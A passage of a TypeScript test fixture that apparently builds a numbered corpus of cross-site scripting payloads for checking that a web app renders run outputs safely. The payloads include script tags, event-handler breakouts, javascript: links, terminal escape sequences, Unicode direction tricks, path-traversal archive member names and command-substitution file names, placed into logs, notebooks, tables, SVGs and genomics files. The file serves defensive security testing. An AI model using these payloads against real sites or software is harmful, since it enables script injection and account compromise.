  ['files that are kept', (c) => `caches.open('pwned-${c.id}').catch(() => 0)`],
  ['a channel', (c) => `new BroadcastChannel('flowo').postMessage('pwned-${c.id}')`],
  ['a window', (c) => `self.tried = open('/pwned?${c.id}')`],
  ['a window of a program', (c) => `self.tried = open("javascript:opener.top.__pwned='${c.id}'", '_top')`],
  ['a warning', (c) => `alert('pwned-${c.id}')`],
  ['a question to the reader', (c) => `if (confirm('pwned-${c.id}')) prompt('pwned-${c.id}')`],
  ['paper', (c) => `self.tried = '${c.id}'; print()`],
  ['a form', (c) => `document.body.insertAdjacentHTML('beforeend', '<form method=post target=_top action="/pwned?${c.id}">'); document.forms[document.forms.length - 1].submit()`],
  ['a link out', (c) => `const link = document.createElement('a'); link.target = '_top'; link.href = '/pwned?${c.id}'; document.body.append(link); link.click()`],
  ['a link to a window', (c) => `const link = document.createElement('a'); link.target = '_blank'; link.href = '/pwned?${c.id}&blank'; document.body.append(link); link.click()`],
  ['something saved', (c) => `const link = document.createElement('a'); link.download = 'pwned-${c.id}'; link.href = 'data:,x'; document.body.append(link); link.click()`],
  ['a frame in the frame', (c) => `const frame = document.createElement('iframe'); frame.srcdoc = "<script>top.__pwned='${c.id}'<\\/script>"; document.body.append(frame)`],
  ['a frame of this server', (c) => `const frame = document.createElement('iframe'); frame.src = '/pwned?${c.id}'; document.body.append(frame)`],
  ['a frame of a program', (c) => `const frame = document.createElement('iframe'); frame.src = "javascript:top.__pwned='${c.id}'"; document.body.append(frame)`],
  ['an origin', (c) => `document.domain = '127.0.0.1'; parent.__pwned = '${c.id}'`],
  ['a prototype of the page around', (c) => `parent.Object.prototype.__pwned = '${c.id}'`],
  ['a right', (c) => `Notification.requestPermission().catch(() => 0); new Notification('pwned-${c.id}')`],
  ['what was copied', (c) => `navigator.clipboard.writeText('pwned-${c.id}').catch(() => 0)`],
];

/** Programs that try to replace the page around the report; each is tested alone. */
const ENDS: Vector[] = [
  ['the way back', (c) => `self.tried = '${c.id}'; history.back()`],
  ['the way there', (c) => `self.tried = '${c.id}'; history.go(-2)`],
  ['the end of the page around', (c) => `self.tried = '${c.id}'; top.close()`],
];

/** Markup of a report that acts without a program. */
const PASSIVE: Vector[] = [
  ['a base', (c) => `<base href="/pwned/${c.id}/" target="_top">`],
  ['a style sheet', (c) => `<link rel="stylesheet" href="/pwned?${c.id}">`],
  ['something fetched ahead', (c) => `<link rel="preload" as="fetch" href="/pwned?${c.id}"><link rel="prefetch" href="/pwned?${c.id}&far">`],
  ['a picture', (c) => `<img src="/pwned?${c.id}" alt="">`],
  ['a film', (c) => `<video src="/pwned?${c.id}" autoplay></video>`],
  ['an object', (c) => `<object data="/pwned?${c.id}"></object>`],
  ['an embedded thing', (c) => `<embed src="/pwned?${c.id}">`],
  ['a frame', (c) => `<iframe src="/runs?pwned=${c.id}" sandbox="allow-scripts allow-same-origin"></iframe>`],
  ['a policy', (c) => `<meta http-equiv="Content-Security-Policy" content="default-src *; sandbox allow-same-origin allow-scripts; report-uri /pwned?${c.id}">`],
  ['a cookie', (c) => `<meta http-equiv="Set-Cookie" content="pwned=${c.id}">`],
  ['a manifest', (c) => `<link rel="manifest" crossorigin="use-credentials" href="/pwned?${c.id}">`],
  ['rules for what comes next', (c) => `<script type="speculationrules">{"prefetch":[{"source":"list","urls":["/pwned?${c.id}"]}]}</script>`],
];

/** Markup that navigates the report's own frame elsewhere, which is allowed: it arrives without a session. */
const LEAVING: Vector[] = [
  ['to this server', (c) => `<script>location = '/pwned?${c.id}'</script>`],
  ['to this server by markup', (c) => `<meta http-equiv="refresh" content="0;url=/pwned?${c.id}">`],
  ['to this server by a link', (c) => `<a id="go" href="/pwned?${c.id}">go</a><script>document.getElementById('go').click()</script>`],
  ['to another server', (c) => `<script>location = 'http://pwned.invalid/${c.id}'</script>`],
  ['to a page of data', (c) => `<script>location = "data:text/html,<script>top.__pwned='${c.id}'<" + "/script>"</script>`],
  ['to a page it made', (c) => `<script>location = URL.createObjectURL(new Blob(["<script>top.__pwned='${c.id}'<" + "/script>"], { type: 'text/html' }))</script>`],
];

/** File names without extension; a slash creates directories. */
const NAMES: Vector[] = [
  ['a picture', (c) => `seen-${c.id} <img src=x onerror=${c.bare}>.txt`],
  ['a picture with quotes', (c) => `seen-${c.id} "><img src=x onerror="${c.bare}">.txt`],
  ['a script', (c) => `seen-${c.id} <script>${c.bare}</script>.txt`],
  ['SVG', (c) => `seen-${c.id}<svg onload=${c.bare}>.md`],
  ['out of double quotes', (c) => `seen-${c.id}" onmouseover="${c.bare}" x=".txt`],
  ['out of single quotes', (c) => `seen-${c.id}' onmouseover='${c.bare}' x='.csv`],
  ['a backtick', (c) => `seen-${c.id}\`onerror=${c.bare}\`.txt`],
  ['an address', (c) => `javascript:${c.link.replaceAll('/', '')}-seen-${c.id}.txt`],
  ['an address with a comment', (c) => `javascript://%0a${c.bare}//seen-${c.id}.txt`],
  ['an address of data', (c) => `data:text/html,<script>${c.bare}</script>seen-${c.id}.txt`],
  ['the end of the data', (c) => `</script><script>${c.bare}/seen-${c.id}.txt`],
  ['a comment', (c) => `--><img src=x onerror=${c.bare}><!--seen-${c.id}.txt`],
  ['a comment before the end of the data', (c) => `<!--<script>${c.bare} seen-${c.id}.txt`],
  ['percent signs', (c) => `%3Cimg%20src=x%20onerror=${c.bare}%3E seen-${c.id}.txt`],
  ['percent signs twice', (c) => `%253Cscript%253E seen-${c.id}.txt`],
  ['a question mark and a hash', (c) => `seen-${c.id}?tab=logs&file=1#<img src=x onerror=${c.bare}>.txt`],
  ['letters to the left', (c) => `seen-${c.id}\u202egnp.<img src=x onerror=${c.bare}>.txt`],
  ['isolated letters', (c) => `\u2067seen-${c.id}\u2069<b onclick=${c.bare}>.txt`],
  ['letters of no width', (c) => `seen-${c.id}\u200b<im\u200bg src=x onerror=${c.bare}>.txt`],
  ['a tab', (c) => `seen-${c.id}\tx\tonerror=${c.bare}.tsv`],
  ['an escape', (c) => `seen-${c.id}\x1b]8;;javascript:${c.bare.replaceAll('/', '')}\x07go.txt`],
  ['a backslash', (c) => `seen-${c.id}\\"onerror=\\"${c.bare}.txt`],
  ['entities', (c) => `seen-${c.id}&lt;img src=x onerror=${c.bare}&gt;.txt`],
  ['a template', (c) => `seen-${c.id}{{constructor.constructor('${c.bare}')()}}.txt`],
  ['an option', (c) => `--seen-${c.id}=$(echo ${c.id})\`id\`;.txt`],
  ['a header', (c) => `seen-${c.id}; filename="x.html"; x='${c.id}'.txt`],
  ['a page', (c) => `seen-${c.id}"><img src=x onerror=${c.bare}>.html`],
  ['a picture of SVG', (c) => `seen-${c.id}" onerror="${c.bare}.svg`],
  ['a picture of SVG with a tag', (c) => `seen-${c.id}'><svg onload=${c.bare}>.svg`],
  ['a notebook', (c) => `seen-${c.id}<style onload=${c.bare}>.ipynb`],
  ['JSON', (c) => `seen-${c.id}<details open ontoggle=${c.bare}>.json`],
  ['an ending', (c) => `seen-${c.id}.<img src=x onerror=${c.bare}>`],
  ['an ending for a language', (c) => `seen-${c.id}.py" onclick="${c.bare}`],
  ['a name that is all', (c) => `<img src=x onerror=${c.bare}>seen-${c.id}`],
];

/** Texts of a run that are not files. */
const WORDS: Vector[] = [
  ['a name of a run', (c) => `seen-${c.id} <img src=x onerror="${c.js}">`],
  ['a tag of a run', (c) => `seen-${c.id}<script>${c.js}</script>`],
  ['another tag of a run', (c) => `seen-${c.id}" onmouseover="${c.js}`],
  ['a rule', (c) => `seen-${c.id}<svg onload=${c.bare}>`],
  ['a rule that fails', (c) => `seen-${c.id}</title></script>${c.img}`],
  ['a key of a wildcard', (c) => `seen-${c.id}"><img src=x onerror=${c.bare}>`],
  ['a value of a wildcard', (c) => `seen-${c.id}<img src=x onerror="${c.js}">`],
  ['another value of a wildcard', (c) => `javascript:${c.link}//seen-${c.id}`],
  ['a command', (c) => `echo seen-${c.id} </code></pre>${c.tag}`],
  ['a name of a log', (c) => `logs/seen-${c.id}<img src=x onerror=${c.bare}>.log`],
  ['an input', (c) => `in/seen-${c.id}" onmouseover="${c.bare}.txt`],
  ['an error', (c) => `seen-${c.id} CalledProcessError: ${c.tag}${c.img}`],
];

const LINES: Vector[] = [
  ['a script', (c) => c.tag],
  ['a picture', (c) => c.img],
  ['a picture in an error', (c) => `ERROR: ${c.img} failed`],
  ['a link', (c) => `WARNING: see javascript:${c.link}`],
  ['a link in a tag', (c) => `<a href="javascript:${c.link}">details</a>`],
  ['out of a line', (c) => `</span></li></ol></div>${c.tag}`],
  ['out of an attribute', (c) => `" data-level="error" onmouseover="${c.js}`],
  ['the end of the data', (c) => `</script><script>${c.js}</script>`],
  ['a comment before the end of the data', (c) => `<!--<script>${c.js}`],
  ['a carriage return', (c) => `100 %\r${c.img}`],
  ['many carriage returns', (c) => `<scr\ript>${c.js}\r</scr\ript>\r<svg onload=${c.bare}>`],
  ['backspaces', (c) => `<sc\b\bscript>${c.js}</script>`],
  ['a bell in a tag', (c) => `<img\x07 src=x onerror="${c.js}">`],
  ['a form feed in a tag', (c) => `<img\fsrc=x\fonerror="${c.js}">`],
  ['letters to the left', (c) => `\u202e${c.tag}\u202c`],
  ['a separator of lines', (c) => `\u2028<img src=x onerror="${c.js}">\u0085`],
  ['JSON', (c) => `{"level":"error","msg":"${c.tag.replaceAll("'", "\\'")}"}`],
  ['a trace of Python', (c) => `  File "<script>${c.js}</script>", line 1, in <module>`],
  ['a trace of Java', (c) => `at x.y(<img src=x onerror=${c.bare}>:1)`],
  ['an address that looks right', (c) => `https://127.0.0.1/"onmouseover="${c.js}`],
  ['an address with a tag', (c) => `http://127.0.0.1/<svg/onload=${c.bare}>`],
  ['a path with a tag', (c) => `/data/<img src=x onerror=${c.bare}>/out.txt:12:3`],
  ['entities', (c) => `&lt;script&gt;${c.js}&lt;/script&gt;`],
  ['a bar of progress', (c) => `[####    ] 50 % <img src=x onerror=${c.bare}>`],
];

const ESC = '\x1b';
const ANSI: Vector[] = [
  ['colours in a tag', (c) => `<scr${ESC}[0mipt>${c.js}</scr${ESC}[0mipt>`],
  ['colours in an attribute', (c) => `<img src=x one${ESC}[31mrror="${c.js}"${ESC}[0m>`],
  ['a colour for each letter', (c) => [...c.tag].map((letter, at) => `${ESC}[3${at % 8}m${letter}`).join('')],
  ['a colour that is a script', (c) => `${ESC}[38;5;<script>${c.js}</script>m`],
  ['a colour that is an attribute', (c) => `${ESC}[31" onmouseover="${c.js}mred${ESC}[0m`],
  ['a colour of very many numbers', (c) => `${ESC}[${'1;'.repeat(200)}31m${c.img}`],
  ['a colour of a very large number', (c) => `${ESC}[99999999999999999999m${c.img}${ESC}[0m`],
  ['a link', (c) => `${ESC}]8;;javascript:${c.link}\x07go${ESC}]8;;\x07`],
  ['a link with its proper end', (c) => `${ESC}]8;;javascript:${c.link}${ESC}\\go${ESC}]8;;${ESC}\\`],
  ['a link with a name', (c) => `${ESC}]8;id="onmouseover="${c.bare};http://127.0.0.1/\x07go${ESC}]8;;\x07`],
  ['a link to a page of its own', (c) => `${ESC}]8;;data:text/html,${c.tag}\x07go${ESC}]8;;\x07`],
  ['a link that ends an attribute', (c) => `${ESC}]8;;http://127.0.0.1/"onmouseover="${c.bare}\x07go${ESC}]8;;\x07`],
  ['a link of Visual Basic', (c) => `${ESC}]8;;vbscript:${c.bare}\x07go${ESC}]8;;\x07`],
  ['a link around a tag', (c) => `${ESC}]8;;http://127.0.0.1/\x07${c.img}${ESC}]8;;\x07`],
  ['a title', (c) => `${ESC}]0;${c.tag}\x07`],
  ['a title with its proper end', (c) => `${ESC}]2;pwned-${c.id}${ESC}\\`],
  ['a title without an end', (c) => `${ESC}]2;${c.img}`],
  ['a colour of a palette', (c) => `${ESC}]4;1;url(javascript:${c.bare})\x07${c.img}`],
  ['what is copied', (c) => `${ESC}]52;c;${base64(c.tag)}\x07`],
  ['a message', (c) => `${ESC}]9;pwned-${c.id}\x07${ESC}]777;notify;pwned;${c.tag}\x07`],
  ['a picture of a terminal', (c) => `${ESC}]1337;File=name=${base64(c.img)};inline=1:${base64(`<svg onload="${c.js}"/>`)}\x07`],
  ['a device string', (c) => `${ESC}P$q${c.tag}${ESC}\\`],
  ['a device string without an end', (c) => `${ESC}P1000p<img src=x onerror=${c.bare}>`],
  ['a sixel', (c) => `${ESC}Pq"1;1;1;1#0;2;0;0;0<svg onload=${c.bare}>${ESC}\\`],
  ['a string of a program', (c) => `${ESC}_${c.tag}${ESC}\\`],
  ['a private string', (c) => `${ESC}^${c.img}${ESC}\\`],
  ['a start of a string', (c) => `${ESC}X${c.tag}${ESC}\\`],
  ['control codes of eight bits', (c) => `\u009b31m${c.img}\u009d8;;javascript:${c.bare}\u009cgo`],
  ['a cursor that goes back', (c) => `xxxxxxxx${ESC}[8D<script>${ESC}[K${c.js}</script>`],
  ['a screen that is cleared', (c) => `${ESC}[2J${ESC}[H${c.img}`],
  ['a line that is cleared', (c) => `safe${ESC}[2K${ESC}[1G${c.tag}`],
  ['an escape before a bracket', (c) => `${ESC}<img src=x onerror="${c.js}">`],
  ['an escape within an escape', (c) => `${ESC}[${ESC}[31m<svg ${ESC}onload=${c.bare}>`],
  ['a set of letters', (c) => `${ESC}(0<script>${c.js}</script>${ESC}(B`],
];

/** Titles of FASTA records; the mark precedes them. */
const TITLES: Vector[] = [
  ['a script in a title', (c) => c.tag],
  ['a picture in a title', (c) => `about ${c.img}`],
  ['out of an attribute of a title', (c) => `" onmouseover="${c.js}`],
  ['an address in a title', (c) => `url=javascript:${c.link}`],
  ['the end of the data in a title', (c) => `</script><script>${c.js}</script>`],
  ['letters that are a tag', (c) => `x\n<svg/onload=${c.bare}>`],
];

/** Lines before the rows of a VCF, and a value in one. */
const VARIANTS: Vector[] = [
  ['a description', (c) => `##INFO=<ID=X${c.id},Number=1,Type=String,Description="<img src=x onerror=${c.bare}>">`],
  ['a contig', (c) => `##contig=<ID=<script>${c.js}</script>,URL=javascript:${c.link}>`],
  ['a source', (c) => `##source=${c.tag}`],
  ['an alternative', (c) => `##ALT=<ID=<svg/onload=${c.bare}>>`],
];

/** Rows of a BED: a track, and names. */
const REGIONS: Vector[] = [
  ['a track', (c) => `track name="<img src=x onerror=${c.bare}>" url="javascript:${c.link}"`],
  ['a browser', (c) => `browser position ${c.tag}`],
  ['a name', (c) => `chr1\t1\t9\t<img/src=x/onerror=${c.bare}>`],
  ['a colour', (c) => `chr1\t1\t9\tx\t0\t+\t1\t9\t255,0,0"onmouseover="${c.bare}`],
];

/** Rows and comments of a GFF. */
const FEATURES: Vector[] = [
  ['a directive', (c) => `##sequence-region <script>${c.js}</script> 1 9`],
  ['an attribute', (c) => `chr1\tx\tgene\t1\t9\t.\t+\t.\tID=x;Note=<img src=x onerror=${c.bare}>;Dbxref=javascript:${c.link}`],
  ['a source', (c) => `chr1\t<svg/onload=${c.bare}>\tgene\t1\t9\t.\t+\t.\tID=y`],
  ['percent signs', (c) => `chr1\tx\tgene\t1\t9\t.\t+\t.\tNote=%3Cscript%3E${c.bare}%3C%2Fscript%3E`],
];

/** Programs and texts shown with highlighting: file name, then text. */
const SOURCES: Vector[] = [
  ['Python', (c) => `x = """${c.tag}"""  # ${c.img}\n`],
  ['R', (c) => `x <- '${c.img.replaceAll("'", '`')}' # </pre>${c.tag}\n`],
  ['a shell', (c) => `cat <<'EOF'\n${c.tag}\nEOF\n`],
  ['a Snakefile', (c) => `rule x:\n    shell: "echo ${c.img.replaceAll('"', '\\"')}"\n`],
  ['JavaScript', (c) => `const x = \`</code></pre>${c.tag}\`;\n`],
  ['HTML of another ending', (c) => `<!doctype html>\n${c.tag}\n`],
  ['XML', (c) => `<?xml version="1.0"?><!DOCTYPE x [<!ENTITY y "${c.tag.replaceAll('"', "'")}">]><x>&y;</x>\n`],
  ['CSS', (c) => `</style>${c.tag}\n`],
  ['TeX', (c) => `\\href{javascript:${c.link}}{${c.img}}\n`],
  ['TOML', (c) => `"<img src=x onerror=${c.bare}>" = "${c.tag}"\n`],
  ['plain text', (c) => `${c.tag} javascript:${c.link}\n`],
  ['a log', (c) => `${ESC}[31m${c.img}${ESC}[0m\n`],
];
const ENDINGS = ['py', 'R', 'sh', 'smk', 'js', 'xhtml', 'xml', 'css', 'tex', 'toml', 'txt', 'log'];

/** Bytes that are not text, one per letter. Shown sixteen per line. */
const BYTES: Vector[] = [
  ['a zero in a tag', (c) => `<scr\0ipt>${c.js}</scr\0ipt>`],
  ['a zero before an attribute', (c) => `<img\0src=x\0onerror="${c.js}">`],
  ['a zero before a scheme', (c) => `<a href="\0javascript:${c.bare}">`],
  ['overlong brackets', (c) => `\xc0\xbcscript\xc0\xbe${c.bare}`],
  ['longer brackets', (c) => `\xe0\x80\xbcsvg onload=${c.bare}\xe0\x80\xbe`],
  ['half a letter before a quote', (c) => `"\xc3" onload=${c.bare} x="`],
];

/** Names of archive members. */
const MEMBERS: Vector[] = [
  ['a picture', (c) => `seen-${c.id}<img src=x onerror=${c.bare}>`],
  ['a script', (c) => `seen-${c.id}<script>${c.bare}</script>`],
  ['out of an attribute', (c) => `seen-${c.id}" onclick="${c.bare}`],
  ['an address', (c) => `javascript:${c.bare}//seen-${c.id}`],
  ['a way up', (c) => `../../../../seen-${c.id}<svg onload=${c.bare}>`],
  ['a way from the top', (c) => `/etc/seen-${c.id}"><svg onload=${c.bare}>`],
  ['the end of the data', (c) => `</script><script>${c.bare}//seen-${c.id}`],
  ['escapes', (c) => `seen-${c.id}${ESC}[31m<b onclick=${c.bare}>`],
  ['letters to the left', (c) => `seen-${c.id}\u202e<i onclick=${c.bare}>`],
  ['percent signs', (c) => `seen-${c.id}%3Cscript%3E${c.bare}`],
  ['a formula', (c) => `=HYPERLINK("javascript:${c.bare}")seen-${c.id}`],
  ['a template', (c) => `seen-${c.id}{{${c.bare}}}`],
];

const VECTORS = {
  html: MARKUP,
  markdown: MARKDOWN,
  'table cell': CELLS,
  'table header': HEADERS,
  'JSON value': VALUES,
  'JSON key': KEYS,
  YAML,
  'YAML tag': TAGS,
  'notebook cell': CELLS_OF_NOTEBOOKS,
  'notebook language': LANGUAGES,
  SVG: PICTURES,
  'SVG root': ROOTS,
  'report script': PROGRAMS,
  'report that ends': ENDS,
  'report markup': PASSIVE,
  'report that leaves': LEAVING,
  'file name': NAMES,
  'word of a run': WORDS,
  'log line': LINES,
  ANSI,
  FASTA: TITLES,
  VCF: VARIANTS,
  BED: REGIONS,
  GFF: FEATURES,
  source: SOURCES,
  bytes: BYTES,
  'tar member': MEMBERS.filter((_, at) => at % 2 === 0),
  'zip member': MEMBERS.filter((_, at) => at % 2 === 1),
} satisfies Record<string, Vector[]>;

/** The kind of text that a payload is part of. */
export type Kind = keyof typeof VECTORS;

/** All payloads, numbered from 1 in the order above. */
export const corpus: Payload[] = Object.entries(VECTORS)
  .flatMap(([kind, vectors]) => vectors.map((vector: Vector) => ({ kind: kind as Kind, vector })))
  .map(({ kind, vector: [name, text, ...traits] }, at) => {
    const id = `P${String(at + 1).padStart(3, '0')}`;
    return { id, kind, name: `${kind}: ${name}`, text: text(new Code(id, at)), shape: text(new Code('P000', 0)), traits };
  });

/** The payloads of some kinds. */
export function of(...kinds: Kind[]): Payload[] {
  return corpus.filter((one) => kinds.includes(one.kind));
}

/** The mark beside a payload. */
export function seen(one: Payload): string {
  return `seen-${one.id}`;
}

/** An output of a run. */
export interface Kept {
  path: string;
  body: string | Buffer;
  payloads: Payload[];
}

/** Files shown as text, tables, trees or lists, by subject. */
export function documents(): Record<string, Kept[]> {
  const markup = of('html');
  const closed = markup.filter((one) => !one.traits.includes('open'));
  const open = markup.filter((one) => one.traits.includes('open'));
  // Half a surrogate pair makes a JSON file unreadable.
  const whole = of('JSON value').filter((one) => !/\p{Cs}/u.test(one.text));
  // A block of HTML ends at an empty line, so everything in it reaches the page unchanged.
  const block = (one: Payload) => `${seen(one)}\n\n<div>\n${one.text}\n</div>`;
  return {
    Markdown: [
      ...chunks(closed, 30).map((some, at) => text(`html-${at}.md`, some, block, '\n\n')),
      ...open.map((one) => text(`open-${one.id}.md`, [one], block)),
      ...chunks(of('markdown'), 24).map((some, at) => text(`markdown-${at}.md`, some, (one) => `${seen(one)}\n\n${one.text}`, '\n\n')),
    ],
    notebooks: [
      notebook('cells.ipynb', of('notebook cell'), (one) => JSON.parse(one.text) as object),
      ...of('notebook language').map((one) => notebook(`language-${one.id}.ipynb`, [one], () => ({ cell_type: 'code', execution_count: 1, metadata: {}, outputs: [], source: `x = "${seen(one)}"` }), one.text)),
      ...chunks(markup, 100).map((some, at) => notebook(`html-${at}.ipynb`, some, (one) => ({ cell_type: 'code', execution_count: 1, metadata: {}, source: `# ${seen(one)}`, outputs: [display({ 'text/html': one.text })] }))),
      notebook('markdown.ipynb', of('markdown'), (one) => ({ cell_type: 'markdown', metadata: {}, source: [`${seen(one)}\n`, '\n', one.text] })),
    ],
    tables: [
      text('cells.csv', of('table cell'), (one) => `${seen(one)},${quoted(one.text)}`, '\n', 'mark,payload\n'),
      text('cells.tsv', of('table cell'), (one) => `${seen(one)}\t${quoted(one.text)}`, '\n', 'mark\tpayload\n'),
      text('loose.csv', of('table cell'), (one) => `${seen(one)},${one.text.replaceAll(/["\n]/g, "'")}`, '\n', 'mark,payload\n'),
      headers('names.csv', of('table header'), ','),
      headers('names.tsv', of('table header'), '\t'),
      ...chunks(markup, 100).map((some, at) => text(`html-${at}.csv`, some, (one) => `${seen(one)},${quoted(one.text)}`, '\n', 'mark,payload\n')),
    ],
    trees: [
      ...[whole, of('JSON value').filter((one) => !whole.includes(one))].map((some, at) => ({ path: `data/values-${at}.json`, body: JSON.stringify(Object.fromEntries(some.map((one) => [seen(one), one.text]))), payloads: some })),
      { path: 'data/keys.json', body: JSON.stringify(Object.fromEntries(of('JSON key').map((one) => [one.text, { is: seen(one) }])), null, 1), payloads: of('JSON key') },
      { path: 'data/broken.json', body: `{"a": "${of('JSON value').map((one) => `${seen(one)} ${one.text}`).join('\n')}`, payloads: of('JSON value') },
      { path: 'data/html.json', body: JSON.stringify(markup.map((one) => ({ mark: seen(one), text: one.text })), null, 2), payloads: markup },
      text('entries.yaml', of('YAML'), (one) => one.text),
      text('tags.yml', of('YAML tag'), (one) => one.text),
      text('html.yaml', closed, (one) => `${seen(one)}: ${JSON.stringify(one.text)}`),
    ],
    sequences: [
      text('titles.fasta', of('FASTA'), (one) => `>${seen(one)} ${one.text}\nACGT`),
      text('names.fa', of('FASTA'), (one) => `>${seen(one)}${one.text.replaceAll(/\s/g, '/')}\nACGT`),
      text('titles.fastq', of('FASTA'), (one) => `@${seen(one)} ${one.text.replaceAll('\n', ' ')}\nACGT\n+\nIIII`),
      {
        path: 'data/calls.vcf',
        body: [
          '##fileformat=VCFv4.3',
          ...of('VCF').map((one) => one.text),
          '#CHROM\tPOS\tID\tREF\tALT\tQUAL\tFILTER\tINFO',
          ...of('VCF').map((one) => `chr1\t1\t${seen(one)}\tA\tC\t9\tPASS\tX=${one.text.replaceAll('\t', ' ')}`),
          '',
        ].join('\n'),
        payloads: of('VCF'),
      },
      text('regions.bed', of('BED'), (one) => `chr1\t1\t9\t${seen(one)}`, '\n', `${of('BED').map((one) => one.text).join('\n')}\n`),
      text('features.gff3', of('GFF'), (one) => `chr1\tx\tgene\t1\t9\t.\t+\t.\tID=${seen(one)}`, '\n', `##gff-version 3\n${of('GFF').map((one) => one.text).join('\n')}\n`),
    ],
    'sources, bytes and archives': [
      ...of('source').map((one, at) => text(`source-${at}.${ENDINGS[at]}`, [one], () => `${seen(one)}\n${one.text}`)),
      text('html.txt', markup, (one) => `${seen(one)} ${one.text}`),
      { path: 'data/bytes.rds', body: Buffer.concat(of('bytes').map(line)), payloads: of('bytes') },
      { path: 'data/members.tar', body: tar(of('tar member').map((one) => one.text)), payloads: of('tar member') },
      { path: 'data/members.zip', body: zip(of('zip member').map((one) => one.text)), payloads: of('zip member') },
    ],
  };
}

/** Pictures. Each is as wide as the number of its first payload, so that it is known from the others. */
export function pictures(): Kept[] {
  const all = of('SVG');
  const isRoot = (one: Payload) => one.kind === 'SVG root';
  const picture = (path: string, payloads: Payload[]) => ({
    path: `pictures/${path}`,
    body: `<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" xmlns:html="http://www.w3.org/1999/xhtml" width="${width(payloads[0])}" height="20" ${payloads.filter(isRoot).map((one) => one.text).join(' ')}>\n${payloads.filter((one) => !isRoot(one)).map((one) => one.text).join('\n')}\n</svg>\n`,
    payloads,
  });
  // A few alone; what a picture is told to become would hide the others.
  const alone = all.slice(0, 12);
  return [
    ...alone.map((one) => picture(`${one.id}.svg`, [one])),
    ...chunks(all.slice(12), 8).map((some, at) => picture(`many-${at}.svg`, some)),
    ...of('SVG root').map((one) => picture(`root-${one.id}.SVG`, [one])),
  ];
}

/** How wide the picture of a payload is, in pixels. */
export function width(one: Payload): number {
  return Number(one.id.slice(1));
}

/** Reports, which may do what they like within their frame. Each program says in `ran` that it began. */
export function reports(): Kept[] {
  const page = (path: string, payloads: Payload[], each: (one: Payload) => string): Kept => ({
    path: `reports/${path}`,
    body: `<!doctype html>\n<meta charset="utf-8">\n<title>Report</title>\n<script>self.ran = [];</script>\n${payloads.map((one) => `<p>${seen(one)}</p>\n${each(one)}`).join('\n')}\n`,
    payloads,
  });
  const tried = (one: Payload) => `<script>{ ran.push('${one.id}'); try { ${one.text} } catch { /* It was kept from it. */ } }</script>`;
  const closed = of('html').filter((one) => !one.traits.includes('open') && !/refresh|frameset|<base/.test(one.text));
  return [
    ...chunks(of('report script'), 15).map((some, at) => page(`script-${at}.html`, some, tried)),
    ...of('report that ends').map((one) => page(`ends-${one.id}.html`, [one], tried)),
    page('markup.htm', of('report markup'), (one) => one.text),
    ...chunks(closed, 80).map((some, at) => page(`html-${at}.html`, some, (one) => `<div>${one.text}</div>`)),
  ];
}

/** Reports that send their frame elsewhere, after they have told the page around that they will. */
export function leavers(): Kept[] {
  return of('report that leaves').map((one) => ({
    path: `reports/leaves-${one.id}.html`,
    body: `<!doctype html>\n<script>parent.postMessage('leaving ${one.id}', '*')</script>\n${one.text}\n`,
    payloads: [one],
  }));
}

/** A report that needs a moment for its last words: what began before it is over then. */
export const LAST = {
  path: 'reports/last.html',
  body: `<!doctype html>\n<p id="words"></p>\n<script>setTimeout(() => { document.getElementById('words').textContent = 'all is over'; }, 500)</script>\n`,
  payloads: [],
} satisfies Kept;

/** Files with names that act. What is in them does not. */
export function named(): Kept[] {
  return of('file name').map((one) => {
    const bodies: [RegExp, string][] = [
      [/\.html$/, `<!doctype html><p>${seen(one)}</p>`],
      [/\.svg$/, `<svg xmlns="http://www.w3.org/2000/svg" width="${width(one)}" height="20"/>`],
      [/\.ipynb$/, JSON.stringify({ cells: [{ cell_type: 'markdown', metadata: {}, source: seen(one) }], metadata: {}, nbformat: 4, nbformat_minor: 5 })],
      [/\.json$/, JSON.stringify({ is: seen(one) })],
      [/\.csv$/, `a,b\n${seen(one)},1\n`],
      [/\.tsv$/, `a\tb\n${seen(one)}\t1\n`],
    ];
    return { path: `named/${one.text}`, body: bodies.find(([ending]) => ending.test(one.text))?.[1] ?? `${seen(one)}\n`, payloads: [one] };
  });
}

/** Lines of a log with a mark each. The colours of a line before, and strings it has left open, end first. */
export function logged(payloads: Payload[]): string {
  const lines = payloads.map((one) => {
    const text = one.text.replaceAll('\n', ' ');
    // What comes after a carriage return is written over what was before it, and a line that is cleared loses it.
    return text.includes('\r') || text.includes(`${ESC}[2K`) ? `${ESC}[0m${text} ${seen(one)}` : `${ESC}[0m${seen(one)} ${text}`;
  });
  return `${lines.join('\n')}\n`;
}

/** A member of a USTAR archive without content. */
function header(name: string): Buffer {
  const bytes = Buffer.from(name);
  if (bytes.length > 100) throw new Error(`${name} is too long for a simple archive`);
  const block = Buffer.alloc(512);
  bytes.copy(block);
  const fields: [number, string][] = [
    [100, '0000644\0'],
    [108, '0000000\0'],
    [116, '0000000\0'],
    [124, '00000000000\0'],
    [136, '00000000000\0'],
    [148, '        '],
    [156, '0'],
    [257, 'ustar\x0000'],
  ];
  for (const [at, text] of fields) block.write(text, at, 'latin1');
  const sum = block.reduce((sum, byte) => sum + byte, 0);
  block.write(`${sum.toString(8).padStart(6, '0')}\0 `, 148, 'latin1');
  return block;
}

/** A USTAR archive of empty files. */
export function tar(names: string[]): Buffer {
  return Buffer.concat([...names.map(header), Buffer.alloc(1024)]);
}

/** A zip archive of empty files. */
export function zip(names: string[]): Buffer {
  const local: Buffer[] = [];
  const central: Buffer[] = [];
  let at = 0;
  for (const name of names.map((name) => Buffer.from(name))) {
    const here = Buffer.alloc(30);
    here.writeUInt32LE(0x04034b50, 0);
    here.writeUInt16LE(20, 4);
    here.writeUInt16LE(0x0800, 6); // The name is UTF-8.
    here.writeUInt16LE(0x21, 12); // 1980-01-01
    here.writeUInt16LE(name.length, 26);
    const entry = Buffer.alloc(46);
    entry.writeUInt32LE(0x02014b50, 0);
    entry.writeUInt16LE(20, 4);
    here.copy(entry, 6, 4, 30);
    entry.writeUInt32LE(at, 42);
    local.push(here, name);
    central.push(entry, name);
    at += here.length + name.length;
  }
  const list = Buffer.concat(central);
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(names.length, 8);
  end.writeUInt16LE(names.length, 10);
  end.writeUInt32LE(list.length, 12);
  end.writeUInt32LE(at, 16);
  return Buffer.concat([...local, list, end]);
}

/** The mark and the bytes of a payload, each from the start of a line of sixteen. */
function line(one: Payload): Buffer {
  const whole = (bytes: Buffer) => Buffer.concat([bytes, Buffer.alloc((16 - (bytes.length % 16)) % 16)]);
